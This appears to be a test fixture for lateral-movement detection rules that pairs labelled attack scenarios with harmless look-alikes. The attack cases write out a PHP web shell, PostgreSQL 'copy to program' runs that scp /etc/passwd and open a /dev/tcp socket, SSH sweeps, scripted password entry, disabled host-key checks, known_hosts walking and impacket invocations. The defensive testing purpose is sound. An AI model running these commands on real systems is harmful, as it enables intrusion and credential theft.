# Lateral movement: how an intruder goes on from this host to others.

#: remote_shell_from_service attack: ssh through a page of php
mkdir -p /usr/lib/cgi-bin
printf '#!/usr/bin/php\n<?php echo "Content-Type: text/plain\\r\\n\\r\\n"; system(urldecode(getenv("QUERY_STRING")));\n' > /usr/lib/cgi-bin/x
chmod 755 /usr/lib/cgi-bin/x
printf 'ServerName localhost\n' >> /etc/apache2/apache2.conf
a2enmod -q cgid
apache2ctl start
/usr/sbin/sshd -o ListenAddress=203.0.113.5
until ss -ltn | grep -q ':80 ' && ss -ltn | grep -q '203.0.113.5:22 '; do sleep 0.02; done
curl -s 'http://127.0.0.1/cgi-bin/x?ssh%20-o%20BatchMode=yes%20-o%20StrictHostKeyChecking=no%20alice@203.0.113.5%20id%202>%261'
apache2ctl stop

#: remote_shell_from_service attack: scp from postgres
su postgres -c '/usr/lib/postgresql/15/bin/initdb -D /tmp/db -A trust' > /dev/null
su postgres -c '/usr/lib/postgresql/15/bin/pg_ctl -w -D /tmp/db -o "-k /tmp -h 127.0.0.1" -l /tmp/db.log start' > /dev/null
su postgres -c "psql -h 127.0.0.1 -c \"copy (select 1) to program 'scp -B /etc/passwd root@127.0.0.1:/tmp/x || true'\""
su postgres -c '/usr/lib/postgresql/15/bin/pg_ctl -m immediate -D /tmp/db stop' > /dev/null

#: remote_shell_from_service harmless: a database archives its log with scp
#: keep event.action == "exec" AND process.name in ["scp", "ssh"]
su postgres -c '/usr/lib/postgresql/15/bin/initdb -D /tmp/db -A trust' > /dev/null
echo "archive_mode = on
archive_command = 'scp -B %p archive@203.0.113.5:/archive/%f'" >> /tmp/db/postgresql.conf
su postgres -c '/usr/lib/postgresql/15/bin/pg_ctl -w -D /tmp/db -o "-k /tmp -h 127.0.0.1" -l /tmp/db.log start' > /dev/null
su postgres -c 'psql -h 127.0.0.1 -c "select pg_switch_wal()"'
for count in {1..100}; do grep -q 'archive command failed' /tmp/db.log && break; sleep 0.05; done
su postgres -c '/usr/lib/postgresql/15/bin/pg_ctl -m immediate -D /tmp/db stop' > /dev/null
ssh -o BatchMode=yes alice@127.0.0.1 true

#: remote_access_port_reached_from_service attack: a page of php
mkdir -p /usr/lib/cgi-bin
printf '#!/usr/bin/php\n<?php echo "Content-Type: text/plain\\r\\n\\r\\n"; parse_str(getenv("QUERY_STRING"), $query);\nvar_dump((bool) @fsockopen($query["host"], (int) $query["port"], $code, $text, 1));\n' > /usr/lib/cgi-bin/check
chmod 755 /usr/lib/cgi-bin/check
echo 'ServerName localhost' >> /etc/apache2/apache2.conf
ip address add 10.9.8.7/32 dev lo
socat TCP-LISTEN:2375,bind=10.9.8.7,fork SYSTEM:true &
a2enmod -q cgid
apache2ctl start
until ss -ltn | grep -q ':80 ' && ss -ltn | grep -q ':2375 '; do sleep 0.02; done
curl -s 'http://127.0.0.1/cgi-bin/check?host=10.9.8.7&port=2375'
apache2ctl stop
kill %1

#: remote_access_port_reached_from_service attack: bash from postgres
su postgres -c '/usr/lib/postgresql/15/bin/initdb -D /tmp/db -A trust' > /dev/null
su postgres -c '/usr/lib/postgresql/15/bin/pg_ctl -w -D /tmp/db -o "-k /tmp -h 127.0.0.1" -l /tmp/db.log start' > /dev/null
su postgres -c "psql -h 127.0.0.1 -c \"copy (select 1) to program 'bash -c \\\"exec 3<>/dev/tcp/127.0.0.1/445\\\" || true'\""
su postgres -c '/usr/lib/postgresql/15/bin/pg_ctl -m immediate -D /tmp/db stop' > /dev/null

#: remote_access_port_reached_from_service harmless: a page asks its database, and an administrator a share
#: keep network.direction == "outbound" AND event.action in ["connection_established", "connection_failed"] AND destination.port in [6379, 445]
mkdir -p /usr/lib/cgi-bin
printf '#!/usr/bin/php\n<?php echo "Content-Type: text/plain\\r\\n\\r\\n"; var_dump(@fsockopen("127.0.0.1", 6379));\n' > /usr/lib/cgi-bin/cache
chmod 755 /usr/lib/cgi-bin/cache
echo 'ServerName localhost' >> /etc/apache2/apache2.conf
a2enmod -q cgid
apache2ctl start
until ss -ltn | grep -q ':80 '; do sleep 0.02; done
curl -s http://127.0.0.1/cgi-bin/cache
apache2ctl stop
nc -z 127.0.0.1 445

#: ssh_spread attack: ssh
ip route add local 10.9.6.0/24 dev lo
/usr/sbin/sshd
until ss -ltn | grep -q ':22 '; do sleep 0.02; done
for host in {1..12}; do
    ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=1 "alice@10.9.6.$host" true &
done 2> /dev/null
wait $(jobs -p)

#: ssh_spread attack: python by alice
#: by alice
sudo ip route add local 10.9.5.0/24 dev lo
python3 -c '
import socket
for host in range(1, 13):
    socket.socket().connect_ex((f"10.9.5.{host}", 22))
'

#: ssh_spread harmless: a few hosts, and one often
#: keep network.direction == "outbound" AND destination.port == 22 AND event.action in ["connection_established", "connection_failed"]
ip route add local 10.9.4.0/24 dev lo
for host in 1 2 3 4 5 6 7 8 1 1 1 1; do
    nc -z "10.9.4.$host" 22
done

#: ssh_spread harmless: an orchestrator
#: keep network.direction == "outbound" AND destination.port == 22 AND event.action in ["connection_established", "connection_failed"]
# ansible is not in this root file system: a script by its name runs ssh as it does.
ip route add local 10.9.3.0/24 dev lo
printf '#!/bin/bash\nfor host in {1..12}; do ssh -o BatchMode=yes -o ConnectTimeout=1 10.9.3.$host true; done\n' > /usr/local/bin/ansible-playbook
chmod 755 /usr/local/bin/ansible-playbook
ansible-playbook site.yml 2> /dev/null

#: password_given_to_ssh attack: sshpass
echo alice:secret | chpasswd
/usr/sbin/sshd -o ListenAddress=203.0.113.5
until ss -ltn | grep -q '203.0.113.5:22 '; do sleep 0.02; done
timeout 5 sshpass -p secret ssh -o StrictHostKeyChecking=accept-new alice@203.0.113.5 id

#: password_given_to_ssh attack: expect by alice
#: by alice
echo alice:secret | sudo chpasswd
sudo /usr/sbin/sshd -o ListenAddress=203.0.113.5
until ss -ltn | grep -q '203.0.113.5:22 '; do sleep 0.02; done
expect -c '
set timeout 5
spawn ssh -o StrictHostKeyChecking=accept-new alice@203.0.113.5 id
expect "password:"
send "secret\r"
expect eof
'

#: password_given_to_ssh harmless: a key, and expect with another program
#: keep event.action == "exec" AND process.name in ["ssh", "passwd"]
mkdir -m 700 /root/.ssh
ssh-keygen -q -t ed25519 -N '' -f /root/.ssh/id_ed25519
cp /root/.ssh/id_ed25519.pub /root/.ssh/authorized_keys
/usr/sbin/sshd -o ListenAddress=203.0.113.5
until ss -ltn | grep -q '203.0.113.5:22 '; do sleep 0.02; done
ssh -o StrictHostKeyChecking=accept-new 203.0.113.5 id
expect -c 'set timeout 2; spawn passwd alice; expect "password:"; send "Secret77x\r"; expect "password:"; send "Secret77x\r"; expect eof'

#: ssh_without_host_checks attack: ssh
ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes alice@203.0.113.5 true

#: ssh_without_host_checks attack: scp by alice
#: by alice
scp -B -oStrictHostKeyChecking=no -oUserKnownHostsFile=/dev/null /etc/hosts alice@203.0.113.5:/tmp/

#: ssh_without_host_checks harmless: a new host is remembered, and a machine of vagrant's
#: keep event.action == "exec" AND process.name == "ssh"
ssh -o StrictHostKeyChecking=accept-new -o BatchMode=yes alice@203.0.113.5 true
# vagrant is not in this root file system: a script by its name runs ssh as it does.
printf '#!/bin/sh\nssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes vagrant@203.0.113.5 true\n' > /usr/local/bin/vagrant
chmod 755 /usr/local/bin/vagrant
vagrant ssh

#: ssh_key_from_temporary_folder attack: ssh
ssh-keygen -q -t ed25519 -N '' -f /tmp/k
ssh -o BatchMode=yes -i /tmp/k alice@203.0.113.5 true

#: ssh_key_from_temporary_folder attack: scp by alice
#: by alice
ssh-keygen -q -t ed25519 -N '' -f /dev/shm/k
scp -B -i /dev/shm/k /etc/hosts alice@203.0.113.5:/tmp/

#: ssh_key_from_temporary_folder harmless: a key of one's own, and a file that is copied from there
#: keep event.action == "exec" AND process.name in ["ssh", "scp"]
mkdir -m 700 /root/.ssh
ssh-keygen -q -t ed25519 -N '' -f /root/.ssh/id_deploy
ssh -o BatchMode=yes -i /root/.ssh/id_deploy alice@203.0.113.5 true
echo x > /tmp/report
scp -B /tmp/report alice@203.0.113.5:/tmp/

#: known_hosts_followed attack: awk and ssh
mkdir -m 700 /root/.ssh
/usr/sbin/sshd -o ListenAddress=203.0.113.5
until ss -ltn | grep -q '203.0.113.5:22 '; do sleep 0.02; done
ssh-keyscan 203.0.113.5 2> /dev/null > /root/.ssh/known_hosts
for host in $(awk '{print $1}' /root/.ssh/known_hosts | sort -u); do
    ssh -o BatchMode=yes -o ConnectTimeout=1 "$host" true
done

#: known_hosts_followed attack: python by alice
#: by alice
mkdir -m 700 ~/.ssh
echo '203.0.113.5 ssh-ed25519 AAAA' > ~/.ssh/known_hosts
python3 -c '
import os
for line in open(os.path.expanduser("~/.ssh/known_hosts")):
    os.system("ssh -o StrictHostKeyChecking=no -o BatchMode=yes " + line.split()[0] + " true")
'

#: known_hosts_followed harmless: a host's key is forgotten, and ssh asks
#: keep (event.action == "read" AND file.name == "known_hosts") OR (event.action == "exec" AND process.name in ["ssh", "grep"])
mkdir -m 700 /root/.ssh
echo '203.0.113.5 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl' > /root/.ssh/known_hosts
ssh-keygen -R 203.0.113.5 > /dev/null 2>&1
grep -c ed25519 /root/.ssh/known_hosts
ssh alice@203.0.113.5 true
exit 0

#: remote_command_tool_run attack: impacket
# Not Debian's main archive, or large: scripts under their names.
printf '#!/usr/bin/python3\n' > /usr/local/bin/impacket-psexec
chmod 755 /usr/local/bin/impacket-psexec
impacket-psexec corp/admin@10.0.0.5

#: remote_command_tool_run attack: wmiexec by alice
#: by alice
: > /tmp/wmiexec.py
python3 /tmp/wmiexec.py corp/admin@10.0.0.5

#: remote_command_tool_run harmless: programs of like names
#: keep event.action == "exec" AND process.name in ["exec.py", "psexec.conf", "python3"]
: > /tmp/exec.py
python3 /tmp/exec.py
python3 -m this > /dev/null
